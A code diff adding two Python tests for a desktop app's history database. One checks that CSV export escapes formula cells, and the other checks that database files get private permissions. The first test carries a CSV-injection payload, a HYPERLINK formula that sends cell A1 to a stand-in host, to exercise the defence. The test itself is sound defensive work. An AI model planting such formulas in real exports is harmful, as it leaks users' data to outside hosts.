@@ -119,3 +119,55 @@ def test_old_schema_is_migrated(tmp_path):
     assert [r.reply for r in store.search("old")] == ["old"]
     version = sqlite3.connect(path).execute("PRAGMA user_version").fetchone()[0]
     assert version == SCHEMA_VERSION
+
+
+def test_export_csv_neutralises_formula_cells(tmp_path):
+    """Issue 15 fault 10 (history side): a reply starting with '=' must not run in a spreadsheet."""
+    from desktop.core.csvsafe import unescape_cell
+
+    store = HistoryStore(tmp_path / "h.sqlite3", redact=redact)
+    conv = Conversation("c", customer_lang="en", template_id="@evil", pasted_at=time.time() - 5)
+    replies = ['=HYPERLINK("http://x.test/?"&A1,"click")', "+1", "-2", "\tx", "\rtab", "fine"]
+    for n, reply in enumerate(replies):
+        store.record_copy(conv, reply, copied_at=time.time() + n)
+    rows = list(csv.DictReader(io.StringIO(store.export_csv(), newline="")))
+    for row in rows:
+        for cell in row.values():
+            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell
+    assert [unescape_cell(r["reply"]) for r in rows] == replies
+    assert rows[0]["template_id"] == "'@evil"
+
+
+def test_database_and_folder_are_private(tmp_path):
+    """Issue 15 fault 11: history.sqlite3, -wal and -shm 0600 in a 0700 folder, also when an
+    older version left them 0644/0755."""
+    import os
+    import stat
+
+    folder = tmp_path / "data"
+    folder.mkdir(mode=0o755)
+    folder.chmod(0o755)
+    old = os.umask(0o022)
+    try:
+        store = HistoryStore(folder / "history.sqlite3", redact=redact)
+        store.new_conversation("x")
+        sides = [folder / "history.sqlite3", folder / "history.sqlite3-wal",
+                 folder / "history.sqlite3-shm"]  # fmt: skip
+        assert all(p.exists() for p in sides)
+        assert stat.S_IMODE(folder.stat().st_mode) == 0o700
+        for p in sides:
+            assert stat.S_IMODE(p.stat().st_mode) == 0o600, p
+        store.close()
+        for p in sides:
+            if p.exists():
+                p.chmod(0o644)
+        store = HistoryStore(folder / "history.sqlite3", redact=redact)
+        store.new_conversation("y")
+        for p in sides:
+            assert stat.S_IMODE(p.stat().st_mode) == 0o600, p
+        store.close()
+        fresh = tmp_path / "new" / "deeper"
+        HistoryStore(fresh / "history.sqlite3", redact=redact).close()
+        assert stat.S_IMODE(fresh.stat().st_mode) == 0o700
+    finally:
+        os.umask(old)
